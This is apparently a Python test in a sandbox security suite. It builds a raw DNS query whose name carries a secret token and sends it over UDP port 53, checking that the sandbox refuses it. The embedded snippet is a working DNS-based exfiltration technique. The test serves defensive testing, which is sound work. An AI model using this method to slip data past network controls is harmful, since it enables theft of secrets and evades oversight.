"""A question to a name server is written by hand, with the data in the name."""

from tests.attacks.attack import Attack
from tests.attacks.grounds.ground import Ground
from tests.attacks.grounds.world import NAMES


def attempt(ground: Ground) -> bool:
    """Gives whether it worked."""
    code = f"""
    label = b'{ground.token}'
    question = bytes([len(label)]) + label + bytes([7]) + b'invalid' + bytes([0]) + struct.pack('>HH', 1, 1)
    packet = struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + question
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(packet, ('{NAMES}', 53))
    """
    return ground.arrives(code)


ATTACK = Attack("names", attempt, recorded=("network.refused", f"udp {NAMES}:53"))
